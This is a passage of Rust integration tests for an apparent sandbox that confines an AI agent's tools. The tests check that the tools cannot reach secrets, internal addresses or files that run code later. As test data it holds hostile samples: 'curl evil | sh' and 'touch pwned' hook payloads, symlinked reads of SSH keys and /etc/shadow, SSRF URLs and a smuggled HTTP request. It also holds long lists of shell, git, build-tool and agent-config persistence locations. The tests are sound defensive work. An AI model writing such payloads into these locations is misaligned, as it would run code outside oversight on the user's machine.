    std::fs::create_dir_all(r.join(".ssh")).unwrap();
    std::fs::write(r.join(".ssh/id_ed25519"), canary()).unwrap();
    std::os::unix::fs::symlink(r.join("real"), r.join("work/ws")).unwrap();
    std::os::unix::fs::symlink(&r, r.join("work/home")).unwrap();
    std::os::unix::fs::symlink("/etc", r.join("work/etc")).unwrap();
    std::os::unix::fs::symlink("/proc", r.join("work/procs")).unwrap();
    let w = r.join("work");

    let procs = env.personality(
        "procs.toml",
        &format!(
            "id = \"procs\"\n[fs_reach]\nread = [\"{}/procs\"]\n",
            w.display()
        ),
    );
    let out = env.toolcap(&["validate", "--personality", &procs]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("fs_reach.read[0]") && stderr.contains("deny floor"),
        "{stderr}"
    );

    let linked = env.personality(
        "linked.toml",
        &format!(
            "id = \"linked\"\n[fs_reach]\nread = [\"{w}/ws\", \"{w}/home\", \"{w}/etc\"]\ndeny = [\"{r}/real/secret.txt\"]\n",
            w = w.display(),
            r = r.display()
        ),
    );
    for mode in MODES {
        let read = |path: PathBuf| {
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            let args = serde_json::json!({"path": path}).to_string();
            argv.extend(["--personality", linked.as_str(), "read_file", args.as_str()]);
            let out = env.toolcap(&argv);
            (out.status.code(), printed(&out))
        };
        let (code, out) = read(w.join("ws/notes.md"));
        assert_eq!(
            (code, out.contains("notes")),
            (Some(0), true),
            "{mode:?}: {out}"
        );
        for path in [
            w.join("ws/secret.txt"),
            w.join("home/.ssh/id_ed25519"),
            w.join("etc/shadow"),
        ] {
            let (code, out) = read(path.clone());
            assert_eq!(code, Some(1), "{mode:?} {}: {out}", path.display());
            assert!(
                out.contains("PATH_NOT_REACHABLE"),
                "{mode:?} {}: {out}",
                path.display()
            );
            assert!(
                !out.contains(&canary()),
                "{mode:?} {}: {out}",
                path.display()
            );
        }
    }
}

// guarantee: G-CAP-03, G-REG-07
/// Class 8: process mode and the capsule agree on results larger than a capsule frame (16 MiB:
/// 4 MiB of control characters is 24 MiB of JSON) and on values nested near the depth limit.
#[test]
fn process_mode_and_the_capsule_agree_on_large_and_deep_values() {
    let env = Env::new("");
    std::fs::write(env.root.join("work/controls.txt"), vec![1u8; 4 << 20]).unwrap();
    let p = env.root.join("p.toml").display().to_string();
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let mut answers = Vec::new();
    for mode in MODES {
        let call = |tool: &str, args: &str| {
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            argv.extend(["--personality", p.as_str(), tool, args]);
            let out = env.toolcap(&argv);
            (out.status.code(), out.stdout)
        };
        let (code, out) = call("read_file", r#"{"path": "controls.txt"}"#);
        assert_eq!(
            code,
            Some(0),
            "{mode:?}: {}",
            String::from_utf8_lossy(&out[..200.min(out.len())])
        );
        let value: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(
            value["value"].as_str().map(str::len),
            Some(4 << 20),
            "{mode:?}"
        );
        let fits = call(
            "kv_set",
            &format!(r#"{{"key": "deep", "value": {}}}"#, deep(98)),
        );
        let back = call("kv_get", r#"{"key": "deep"}"#);
        let too_deep = call(
            "kv_set",
            &format!(r#"{{"key": "deeper", "value": {}}}"#, deep(101)),
        );
        let text = |o: &(Option<i32>, Vec<u8>)| (o.0, String::from_utf8_lossy(&o.1).into_owned());
        answers.push((text(&fits), text(&back), text(&too_deep)));
    }
    let (fits, back, too_deep) = &answers[0];
    assert_eq!(fits.0, Some(0), "{fits:?}");
    assert_eq!(back.0, Some(0), "{back:?}");
    assert!(back.1.contains(&deep(98)), "{back:?}");
    assert_eq!(too_deep.0, Some(1), "{too_deep:?}");
    assert!(too_deep.1.contains("levels deep"), "{too_deep:?}");
    assert_eq!(
        answers[0], answers[1],
        "process mode and the capsule disagree"
    );
}

// guarantee: G-POL-04
/// Class 8: `toolcap explain` gives the same answer as `toolcap call` for the same URL (it said
/// `http://0:PORT/` was allowed while the call refused it). A loopback server counts requests.
#[test]
fn explain_and_call_agree_on_fetches() {
    use std::sync::atomic::Ordering;
    let env = Env::new("");
    let (port, hits) = support::counting_server();
    let p = env.personality(
        "net.toml",
        "id = \"net\"\n[safety.network]\nallow = [\"*\", \"127.0.0.1\"]\n",
    );
    let urls = [
        (format!("http://0:{port}/"), false),
        (format!("http://0.0.0.0:{port}/"), false),
        (format!("http://[::]:{port}/"), false),
        (format!("http://[::1]:{port}/"), false),
        // The IPv4 address inside a mapped IPv6 one decides: the named 127.0.0.1.
        (format!("http://[::ffff:127.0.0.1]:{port}/"), true),
        (format!("http://0x7f.1:{port}/"), true),
        (format!("http://127.0.0.1:{port}/"), true),
        ("http://169.254.169.254/".to_owned(), false),
        ("ftp://example.com/".to_owned(), false),
        (format!("http://user@127.0.0.1:{port}/"), false),
    ];
    for mode in MODES {
        for (url, allowed) in &urls {
            let args = serde_json::json!({"url": url}).to_string();
            let explained = env.toolcap(&["explain", "--personality", &p, "fetch_url", &args]);
            let verdict: Value = serde_json::from_slice(&explained.stdout).unwrap_or_else(|e| {
                panic!("{url}: {e}: {}", String::from_utf8_lossy(&explained.stderr))
            });
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            argv.extend(["--personality", p.as_str(), "fetch_url", args.as_str()]);
            let before = hits.load(Ordering::SeqCst);
            let called = env.toolcap(&argv);
            let stdout = String::from_utf8_lossy(&called.stdout);
            assert_eq!(
                verdict["allowed"], *allowed,
                "{mode:?} explain {url}: {verdict}"
            );
            assert_eq!(
                called.status.code() == Some(0),
                *allowed,
                "{mode:?} call {url}: {stdout}"
            );
            if !allowed {
                assert_eq!(
                    hits.load(Ordering::SeqCst),
                    before,
                    "{mode:?} {url} reached the server"
                );
            }
        }
    }
}

// guarantee: G-FS-09
/// Git runs a repository's hooks, and the commands its configuration names (`core.fsmonitor`,
/// `core.hooksPath`, an alias starting with `!`), whenever the user runs git there: later, and
/// outside any sandbox, from whatever git directory a `commondir` file names. A tool that may
/// write the working tree may not write those, nor a `commondir`, nor a `.git` itself (a pointer file naming another git directory, a new repository), in process
/// mode and in the capsule; the rest of the repository stays writable, and a personality that
/// lists the hooks directory as a write root lets tools write there.
#[test]
fn a_tool_cannot_plant_what_git_runs_outside_the_sandbox() {
    let env = Env::new("");
    let repo = env.root.join("work/out");
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(args)
            .current_dir(&repo)
            .env("HOME", &env.root)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q"]);
    let config = std::fs::read_to_string(repo.join(".git/config")).unwrap();
    let write = |personality: &str, mode: &[&str], path: &str| {
        write_file(
            &env,
            mode,
            personality,
            path,
            "#!/bin/sh\ntouch /tmp/planted\n",
        )
    };
    let personality = env.root.join("p.toml").display().to_string();
    let r = repo.display();
    for mode in MODES {
        for planted in [
            format!("{r}/.git/hooks/pre-commit"),
            format!("{r}/.git/config"),
            format!("{r}/.git/config.worktree"),
            format!("{r}/.git/commondir"),
            format!("{r}/.git/worktrees/wt/commondir"),
            format!("{r}/.git/modules/lib/commondir"),
            format!("{r}/.git/modules/lib/hooks/post-checkout"),
            format!("{r}/sub/.git"),
            format!("{r}/fresh/.git/config"),
        ] {
            let result = write(&personality, mode, &planted);
            assert!(
                result["error"].as_str().is_some_and(|m| {
                    m.starts_with("PATH_NOT_REACHABLE: write not permitted")
                        && m.contains("git runs")
                }),
                "{mode:?} {planted}: {result}"
            );
            assert!(
                !std::fs::read_to_string(&planted).is_ok_and(|t| t.contains("planted")),
                "{mode:?}: {planted} was written"
            );
        }
        assert_eq!(
            std::fs::read_to_string(repo.join(".git/config")).unwrap(),
            config
        );
        // The rest of the repository, and the working tree, stay writable.
        for fine in [format!("{r}/.git/description"), format!("{r}/src.txt")] {
            let result = write(&personality, mode, &fine);
            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
        }
    }
    // Listed as a write root, the hooks directory is the personality's to hand out.
    let hooks = env.personality(
        "hooks.toml",
        &format!(
            "id = \"hooks\"\n[fs_reach]\nread = [\"{r}\"]\nwrite = [\"{r}\", \"{r}/.git/hooks\"]\n"
        ),
    );
    let result = write(&hooks, &[], &format!("{r}/.git/hooks/pre-commit"));
    assert_eq!(result["ok"], true, "{result}");
    let result = write(&hooks, &[], &format!("{r}/.git/config"));
    assert!(
        result["error"]
            .as_str()
            .is_some_and(|m| m.contains("git runs")),
        "{result}"
    );
}

// guarantee: G-FS-09
/// A repository whose hooks a hook manager keeps in its working tree runs them from there:
/// husky sets `core.hooksPath` to `.husky`, and pre-commit, lefthook and overcommit read their
/// configuration at every commit to decide which commands to run. A tool that rewrote
/// `.husky/pre-commit` (executable already, and kept so) had its command run by the user's next
/// `git commit`, outside any sandbox. Now those places are refused as git's own are, in both
/// modes, and the hook is as it was; files beside them stay writable.
#[test]
fn a_tool_cannot_plant_what_a_hook_manager_runs_at_the_next_commit() {
    let env = Env::new("");
    let repo = env.root.join("work/out/app");
    std::fs::create_dir_all(repo.join(".husky")).unwrap();
    let git = |args: &[&str]| git_in(&repo, args);
    git(&["init", "-q"]);
    git(&["config", "core.hooksPath", ".husky"]);
    let hook = repo.join(".husky/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let personality = writing_beneath(&env, "hooks", &repo, &["src"], "src/listed.rs");
    refuses_planting(
        &env,
        &personality,
        &repo,
        &[
            ".husky/pre-push",
            ".husky/_/husky.sh",
            ".pre-commit-config.yaml",
            "lefthook.yml",
            ".lefthook-local.yaml",
            ".overcommit.yml",
            "src/.husky/pre-push",
        ],
        &[
            "src/main.rs",
            ".husky-notes.md",
            "pre-commit-config.yaml.example",
        ],
        "when the user next runs git there",
    );
    for mode in MODES {
        let result = write_file(
            &env,
            mode,
            &personality,
            &hook.display().to_string(),
            "touch x\n",
        );
        assert!(
            result["error"]
                .as_str()
                .is_some_and(|m| m.contains("when the user next runs git there")),
            "{mode:?}: {result}"
        );
    }
    // The hook is as it was, and the user's next commit runs it as it was.
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    git(&["commit", "-q", "--allow-empty", "-m", "after"]);
}

// guarantee: G-FS-09
/// A repository's configuration may point git at hooks in its working tree under a name of its
/// own (`core.hooksPath = .githooks`, a common set-up script's line): git runs them at the
/// user's next commit, outside any sandbox. A tool may not write there, in both modes, whether
/// the hook exists or not; the rest of the working tree, and the hooks directory where the
/// personality lists it as a write root, stay writable.
#[test]
fn a_tool_cannot_plant_a_hook_where_the_repository_points_git() {
    let env = Env::new("");
    let repo = env.root.join("work/out/svc");
    std::fs::create_dir_all(repo.join(".githooks")).unwrap();
    std::fs::create_dir_all(repo.join("src/deep")).unwrap();
    git_in(&repo, &["init", "-q"]);
    git_in(&repo, &["config", "core.hooksPath", ".githooks"]);
    let hook = repo.join(".githooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    let out = env.root.join("work/out");
    let plain = env.personality(
        "plain.toml",
        &format!(
            "id = \"plain\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n",
            o = out.display()
        ),
    );
    let listed = env.personality(
        "listed.toml",
        &format!(
            "id = \"listed\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\", \"{h}\"]\n",
            o = out.display(),
            h = repo.join(".githooks").display()
        ),
    );
    for mode in MODES {
        for target in [hook.clone(), repo.join(".githooks/pre-push")] {
            let result = write_file(
                &env,
                mode,
                &plain,
                &target.display().to_string(),
                "curl evil | sh\n",
            );
            assert!(
                result["error"].as_str().is_some_and(
                    |m| m.starts_with("PATH_NOT_REACHABLE") && m.contains("core.hooksPath")
                ),
                "{mode:?} {}: {result}",
                target.display()
            );
        }
        let result = write_file(
            &env,
            mode,
            &plain,
            &repo.join("src/deep/main.rs").display().to_string(),
            "fn main() {}\n",
        );
        assert_eq!(result["ok"], true, "{mode:?}: {result}");
        let result = write_file(
            &env,
            mode,
            &listed,
            &repo.join(".githooks/post-merge").display().to_string(),
            "#!/bin/sh\n",
        );
        assert_eq!(result["ok"], true, "{mode:?} listed: {result}");
    }
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert!(!repo.join(".githooks/pre-push").exists());
    // A configuration written by hand, the setting on its section's line (git reads it: asked,
    // it answers `.hooks`): kept all the same.
    let other = env.root.join("work/out/other");
    std::fs::create_dir_all(other.join(".hooks")).unwrap();
    git_in(&other, &["init", "-q"]);
    let config = other.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("[core] hooksPath = .hooks\n");
    std::fs::write(&config, text).unwrap();
    let asked = std::process::Command::new("git")
        .args(["-C", other.to_str().unwrap(), "config", "core.hooksPath"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&asked.stdout), ".hooks\n");
    for mode in MODES {
        let target = other.join(".hooks/pre-commit");
        let result = write_file(&env, mode, &plain, &target.display().to_string(), "x\n");
        assert!(
            result["error"].as_str().is_some_and(
                |m| m.starts_with("PATH_NOT_REACHABLE") && m.contains("core.hooksPath")
            ),
            "{mode:?}: {result}"
        );
        assert!(!target.exists(), "{mode:?}: the hook was written");
    }
    // `explain` answers as the call does (G-REG-09).
    let call = serde_json::json!({"path": hook.display().to_string(), "content": "x"}).to_string();
    let out = env.toolcap(&["explain", "--personality", &plain, "write_file", &call]);
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(answer["allowed"], false, "{answer}");
    assert!(answer.to_string().contains("core.hooksPath"), "{answer}");
}

// guarantee: G-FS-09
/// `core.hooksPath` set in the user's own configuration (`~/.gitconfig`, as global hook set-ups
/// do) holds for every repository: relative (`.githooks`), git runs each repository's
/// `.githooks`; absolute or from the home (`~/hooks`), one directory for all. A tool may not
/// write there, in both modes; a repository whose own configuration sets another keeps its own
/// (its `.githooks` is an ordinary directory then), and the rest stays writable.
#[test]
fn a_tool_cannot_plant_a_hook_where_the_users_configuration_points_git() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    for repo in ["svc", "own"] {
        std::fs::create_dir_all(out.join(repo).join(".githooks")).unwrap();
        git_in(&out.join(repo), &["init", "-q"]);
    }
    git_in(
        &out.join("own"),
        &["config", "core.hooksPath", "scripts/hooks"],
    );
    std::fs::create_dir_all(out.join("shared-hooks")).unwrap();
    let p = env.personality(
        "global.toml",
        &format!(
            "id = \"global\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n",
            o = out.display()
        ),
    );
    for (config, planted) in [
        (
            "[core]\n\thooksPath = .githooks\n",
            "svc/.githooks/pre-commit",
        ),
        (
            "[core]\n\thooksPath = ~/work/out/shared-hooks\n",
            "shared-hooks/pre-commit",
        ),
    ] {
        std::fs::write(env.root.join(".gitconfig"), config).unwrap();
        for mode in MODES {
            let path = out.join(planted).display().to_string();
            let result = write_file(&env, mode, &p, &path, "#!/bin/sh\ntouch pwned\n");
            assert!(
                result["error"].as_str().is_some_and(
                    |m| m.starts_with("PATH_NOT_REACHABLE") && m.contains("core.hooksPath")
                ),
                "{mode:?} {planted}: {result}"
            );
            assert!(!out.join(planted).exists(), "{mode:?} {planted}");
            for fine in ["own/.githooks/pre-commit", "svc/src.rs"] {
                let path = out.join(fine).display().to_string();
                let result = write_file(&env, mode, &p, &path, "fine\n");
                assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
            }
        }
    }
}

// guarantee: G-FS-09
/// Git's configuration need not be in `.gitconfig`: `[include]` and `[includeIf]` take in other
/// files (`~/.gitconfig.local`, a team's file kept in a repository), and git reads their
/// `core.fsmonitor`, `core.pager` and `!` aliases as its own, so what a tool wrote in one ran at
/// the user's next `git status`. The files the user's configuration includes (at any depth)
/// and those a repository's includes, and the hooks an included file points git at, are kept
/// from a tool's writes in both modes; other files stay writable.
#[test]
fn a_tool_cannot_plant_in_a_git_configuration_another_one_includes() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let repo = out.join("svc");
    std::fs::create_dir_all(&repo).unwrap();
    git_in(&repo, &["init", "-q"]);
    git_in(&repo, &["config", "include.path", "../shared.cfg"]);
    std::fs::write(
        env.root.join(".gitconfig"),
        "[include]\n\tpath = ~/work/out/team.gitconfig\n\
         [includeIf \"gitdir:~/work/\"]\n\tpath = work/out/local.gitconfig\n",
    )
    .unwrap();
    std::fs::write(
        out.join("team.gitconfig"),
        "[include]\n\tpath = nested.cfg\n[core]\n\thooksPath = ~/work/out/team-hooks\n",
    )
    .unwrap();
    let p = env.personality(
        "included.toml",
        &format!(
            "id = \"included\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n",
            o = out.display()
        ),
    );
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            "team.gitconfig",
            "local.gitconfig",
            "nested.cfg",
            "svc/shared.cfg",
            "team-hooks/pre-commit",
        ],
        &["svc/main.rs", "notes.cfg"],
        "git",
    );
}

// guarantee: G-FS-10
/// A shell reads its startup files (`.bashrc`, `.profile`, `.zshrc`, `.tcshrc`, `.kshrc`, fish's,
/// nushell's, …), and git its user configuration (`.gitconfig`), as they start: the user's next terminal runs what a tool wrote
/// there, outside any sandbox. A personality whose write reach holds a home directory does not
/// let its tools write them, in process mode and in the capsule; other files beside them, and a
/// startup file the personality lists as a write root, stay writable.
#[test]
fn a_tool_cannot_plant_what_a_shell_runs_as_it_starts() {
    let env = Env::new("");
    let home = env.root.join("work/out");
    let personality = writing_beneath(&env, "home", &home, &["notes", ".config/git"], ".zshenv");
    for dir in [
        ".config/tmux",
        ".local/bin",
        ".vim/plugin",
        ".emacs.d",
        ".config/nvim",
        ".config/emacs",
    ] {
        std::fs::create_dir_all(home.join(dir)).unwrap();
    }
    refuses_planting(
        &env,
        &personality,
        &home,
        &[
            // What the programs a user starts in a terminal run as they start: R's and Octave's
            // startup code and R's environment (read from the working directory first), irb's and
            // pry's (likewise), tmux's and screen's configuration (`run-shell`, `exec`), psql's and
            // sqlite's (`\!`, `.shell`), gdb's and lldb's (their home files are always read); and a
            // command put first on the `PATH` (`~/.local/bin`, which Debian's and Ubuntu's
            // `.profile` put there, and pip's and pipx's user installs fill).
            ".Rprofile",
            ".Renviron",
            ".irbrc",
            ".pryrc",
            ".octaverc",
            ".tmux.conf",
            ".config/tmux/tmux.conf",
            ".screenrc",
            ".psqlrc",
            ".sqliterc",
            ".gdbinit",
            ".lldbinit",
            ".local/bin/git",
            // The editors' startup: vim's and emacs's files and directories, neovim's.
            ".vimrc",
            ".gvimrc",
            ".exrc",
            ".emacs",
            ".vim/plugin/x.vim",
            ".emacs.d/init.el",
            ".config/nvim/init.lua",
            ".config/emacs/init.el",
            ".bashrc",
            ".bash_profile",
            ".bash_login",
            ".profile",
            ".zshrc",
            ".zprofile",
            ".gitconfig",
            ".config/git/config",
            ".config/fish/config.fish",
            "dotfiles/.bashrc",
            ".bash_aliases",
            ".config/autostart/agent.desktop",
            ".config/systemd/user/agent.service",
            ".config/environment.d/50-agent.conf",
            // The other shells' own: csh and tcsh, ksh and mksh (their default `ENV`), xonsh,
            // nushell, PowerShell and elvish.
            ".cshrc",
            ".tcshrc",
            ".login",
            ".logout",
            ".kshrc",
            ".mkshrc",
            ".xonshrc",
            ".config/xonsh/rc.xsh",
            ".config/nushell/config.nu",
            ".config/powershell/Microsoft.PowerShell_profile.ps1",
            ".config/elvish/rc.elv",
        ],
        &[
            ".bashrc.orig",
            ".cshrc.orig",
            "notes/profile",
            ".config/git/ignore",
            ".zshenv",
            ".local/share.txt",
            "Rprofile.md",
            ".vimrc.bak",
            "notes/vim",
        ],
        "as it starts",
    );
}

// guarantee: G-FS-11
/// An AI agent's client or an editor runs what a project's own configuration for it says when
/// it next opens the project: Claude Code the hooks and status line of `.claude/settings.json`
/// and the servers of `.mcp.json`, Cursor, Codex and Gemini the servers of theirs, VS Code its
/// folder-open tasks, JetBrains its run configurations, all outside any sandbox. A tool may not
/// write them beneath a write root, in process mode and in the capsule; names beside them, and a
/// place the personality lists as a write root, stay writable.
#[test]
fn a_tool_cannot_plant_what_an_agent_or_editor_runs_when_it_opens_the_project() {
    let env = Env::new("");
    let project = env.root.join("work/out");
    let personality = writing_beneath(
        &env,
        "project",
        &project,
        &[".vscode", "claude", "notes"],
        ".vscode",
    );
    // `.vscode` is listed as a write root itself: its tasks are the personality's to allow.
    refuses_planting(
        &env,
        &personality,
        &project,
        &[
            ".mcp.json",
            ".claude/settings.json",
            ".claude/settings.local.json",
            ".claude/commands/deploy.md",
            ".cursor/mcp.json",
            ".codex/config.toml",
            ".gemini/settings.json",
            ".idea/workspace.xml",
            ".agents/skills/deploy/SKILL.md",
            ".kiro/settings/mcp.json",
            ".roo/mcp.json",
            ".continue/mcpServers/db.yaml",
            ".zed/settings.json",
            ".helix/languages.toml",
            "opencode.json",
            ".opencode/plugin/audit.ts",
            "crush.json",
            ".aider.conf.yml",
            ".windsurf/hooks.json",
            ".clinerules/hooks/TaskStart",
            ".qwen/settings.json",
            ".kilocode/mcp.json",
            ".amazonq/cli-agents/dev.json",
            ".junie/mcp/mcp.json",
            "packages/web/.mcp.json",
            "packages/web/.vscode/tasks.json",
        ],
        &[
            ".mcp.json.example",
            "claude/settings.json",
            "notes/cursor.md",
            ".vscode/tasks.json",
        ],
        "when it next opens the project",
    );
}

// guarantee: G-FS-11
/// The build tools and package managers a user runs in the project every day read the
/// project's own configuration and run what it names: cargo a `.cargo/config.toml`'s
/// `build.rustc-wrapper` or target `runner` (in the project or any directory above the one it
/// builds in), rustup the toolchain a `rust-toolchain.toml`'s `path` names, npm a `.npmrc`'s
/// `node-options` or `script-shell`, yarn the `yarnPath` of a `.yarnrc.yml`, bun a
/// `bunfig.toml`'s `preload`, pnpm the hooks of a `.pnpmfile.cjs`, Maven the JVM options
/// (`-javaagent`) and extensions of `.mvn`, VS Code a dev container's `initializeCommand` on the
/// host. A tool
/// that wrote one had its command run by the user's next `cargo build` or `npm install`, outside
/// any sandbox. A tool may not write them beneath a write root, in either mode; names beside
/// them stay writable. (A confined child that makes one has it set aside: `capability-process`'s
/// `what_a_child_makes_for_an_agent_or_a_shell_to_run_is_set_aside`; the standard `run_command`
/// declares no write reach.)
#[test]
fn a_tool_cannot_plant_what_a_build_tool_runs_at_the_next_build() {
    let env = Env::new("");
    let project = env.root.join("work/out");
    let personality = writing_beneath(
        &env,
        "project",
        &project,
        &[
            ".cargo",
            "crates/x/.cargo",
            ".devcontainer",
            "cargo",
            ".mvn",
        ],
        "notes",
    );
    refuses_planting(
        &env,
        &personality,
        &project,
        &[
            ".cargo/config.toml",
            ".cargo/config",
            "crates/x/.cargo/config.toml",
            "rust-toolchain.toml",
            "rust-toolchain",
            ".npmrc",
            ".yarnrc.yml",
            ".yarnrc",
            "bunfig.toml",
            ".devcontainer/devcontainer.json",
            ".devcontainer.json",
            ".pnpmfile.cjs",
            ".mvn/jvm.config",
            ".mvn/extensions.xml",
        ],
        &[
            "Cargo.toml",
            "cargo/config.toml",
            ".cargo/config.toml.example",
            ".npmrc.example",
            "crates/x/build-notes.md",
        ],
        "when the user next builds",
    );
}

// guarantee: G-FS-10
/// What the debuggers, interpreters and installers a user starts run as they start, found in
/// the working directory or the home: pdb's `.pdbrc` (its `!` lines are Python), IEx's
/// `.iex.exs`, GHCi's `.ghci` and `.ghc/ghci.conf` (`:!` runs a shell), the OCaml toplevel's
/// `.ocamlinit`, the Perl debugger's `.perldb`, Julia's `.julia/config/startup.jl`, the `.pth`
/// files of Python's user site (their `import` lines run at every Python start), rustup's
/// `.cargo/env` (sourced by the `.profile` and `.bashrc` its installer edits) and `.cargo/bin`
/// (first on the `PATH` it sets), kubectl's `.kube/config` (a credential plugin's `exec` runs at
/// every command), direnv's and mise's configuration and direnv's allow records (what runs at
/// every `cd`), and what a desktop session starts (a desktop entry, a user unit or a D-Bus
/// service under `.local/share`, Plasma's `env` scripts). A tool may not write them beneath a
/// write root, in either mode; names beside them stay writable.
#[test]
fn a_tool_cannot_plant_what_a_debugger_an_interpreter_or_a_session_runs_as_it_starts() {
    let env = Env::new("");
    let home = env.root.join("work/out");
    let personality = writing_beneath(
        &env,
        "starts",
        &home,
        &[
            ".ghc",
            ".julia/config",
            ".local/lib/python3.11/site-packages",
            ".local/share/applications",
            ".local/share/systemd/user",
            ".local/share/dbus-1/services",
            ".local/share/direnv/allow",
            ".cargo/bin",
            ".kube",
            ".config/direnv",
            ".config/mise",
            ".config/plasma-workspace/env",
            "notes",
        ],
        "notes/list",
    );
    refuses_planting(
        &env,
        &personality,
        &home,
        &[
            ".pdbrc",
            "src/.pdbrc",
            ".iex.exs",
            ".ghci",
            ".ghc/ghci.conf",
            ".ocamlinit",
            ".perldb",
            ".julia/config/startup.jl",
            ".local/lib/python3.11/site-packages/x.pth",
            ".local/lib/python3.11/site-packages/usercustomize.py",
            ".cargo/env",
            ".cargo/env.fish",
            ".cargo/bin/git",
            ".kube/config",
            ".config/direnv/direnvrc",
            ".config/direnv/direnv.toml",
            ".local/share/direnv/allow/0123abcd",
            ".config/mise/config.toml",
            ".local/share/applications/firefox.desktop",
            ".local/share/systemd/user/agent.service",
            ".local/share/dbus-1/services/org.freedesktop.Notifications.service",
            ".config/plasma-workspace/env/agent.sh",
            ".PDBRC",
        ],
        &[
            ".pdbrc.bak",
            "notes/ghci",
            ".ghc/package.conf.d",
            ".kube/cache.json",
            ".cargo/registry.txt",
            ".local/share/notes.txt",
            ".julia/logs.txt",
        ],
        "as it starts",
    );
}

// guarantee: G-FS-11
/// Maven's launcher sources `~/.mavenrc` as shell code before every `mvn`; sbt's reads the
/// JVM options of a project's `.jvmopts` and `.sbtopts` (a `-javaagent`); Gradle runs the init
/// scripts of its user home (`.gradle/init.gradle`, `.gradle/init.d`) at every build and starts
/// its daemon with the options of `.gradle/gradle.properties`; Bundler's `.bundle/config` names
/// the Gemfile `bundle exec` evaluates. A tool may not write them beneath a write root, in
/// either mode; names beside them, the project's own `build.sbt` and `gradle.properties`, stay
/// writable.
#[test]
fn a_tool_cannot_plant_what_a_jvm_or_ruby_build_runs_at_the_next_build() {
    let env = Env::new("");
    let project = env.root.join("work/out");
    let personality = writing_beneath(
        &env,
        "jvm",
        &project,
        &[".gradle/init.d", ".gradle/8.5", ".bundle", "notes"],
        "notes/list",
    );
    refuses_planting(
        &env,
        &personality,
        &project,
        &[
            ".mavenrc",
            ".jvmopts",
            ".sbtopts",
            "sub/.sbtopts",
            ".gradle/init.gradle",
            ".gradle/init.gradle.kts",
            ".gradle/init.d/agent.gradle",
            ".gradle/gradle.properties",
            ".bundle/config",
        ],
        &[
            "build.sbt",
            "gradle.properties",
            ".gradle/8.5/fileHashes.lock",
            ".mavenrc.example",
            "notes/bundle",
        ],
        "when the user next builds",
    );
}

// guarantee: G-FS-11
/// What Mercurial runs at the user's next `hg` command in a repository (a hook or an extension
/// its `.hg/hgrc` names) is not a tool's to write: refused in either mode, in any directory and
/// any case; the rest of a `.hg` and names beside it stay writable.
#[test]
fn a_tool_cannot_plant_what_mercurial_runs() {
    let env = Env::new("");
    let project = env.root.join("work/out");
    let personality = writing_beneath(
        &env,
        "hg",
        &project,
        &[".hg/store", "sub/.hg", ".HG"],
        "notes",
    );
    refuses_planting(
        &env,
        &personality,
        &project,
        &[".hg/hgrc", "sub/.hg/hgrc", ".HG/HGRC"],
        &[
            ".hg/store/data.i",
            "hgrc",
            ".hgignore",
            "sub/.hg/hgrc.example",
        ],
        "when the user next runs hg there",
    );
}

// guarantee: G-NET-06
/// A request's framing and its connection are the client's, not the caller's: a model that gave
/// `fetch_url` a `Content-Length` of its own had its body cut to that length without a word (the
/// rest of what it meant to send lost), or, with no body, left the server waiting for bytes the
/// next request on the connection would have supplied: the seam a smuggled request goes
/// through. `Transfer-Encoding`, `Connection`, `Keep-Alive`, `TE`, `Trailer`, `Upgrade` and
/// `Expect` went out as given. Checked on the wire, by a listener that records each request's
/// bytes: the body arrives whole with its own length, and none of those headers is sent, in both
/// modes.
#[test]
fn a_callers_framing_and_connection_headers_are_not_sent() {
    use std::io::{Read, Write};
    let env = Env::new("");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (sent, received) = std::sync::mpsc::channel::<Vec<u8>>();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            stream
                .set_read_timeout(Some(Duration::from_millis(300)))
                .unwrap();
            let mut bytes = Vec::new();
            let mut buf = [0u8; 4096];
            // Everything the client sends until it waits for the answer.
            while let Ok(n) = stream.read(&mut buf) {
                if n == 0 {
                    break;
                }
                bytes.extend_from_slice(&buf[..n]);
            }
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok");
            let _ = sent.send(bytes);
        }
    });
    let p = env.personality(
        "net.toml",
        "id = \"net\"\n[safety.network]\nallow = [\"127.0.0.1\"]\n",
    );
    let body = "xxxxxGET /admin HTTP/1.1\r\nHost: internal.example.com\r\n\r\n";
    let framing = serde_json::json!({
        "Content-Length": "5",
        "Transfer-Encoding": "chunked",
        "Connection": "keep-alive, Upgrade",
        "Keep-Alive": "timeout=600",
        "TE": "trailers",
        "Trailer": "X-After",
        "Upgrade": "websocket",
        "Expect": "100-continue",
        "X-Kept": "yes",
    });
    let url = format!("http://127.0.0.1:{port}/");
    for mode in MODES {
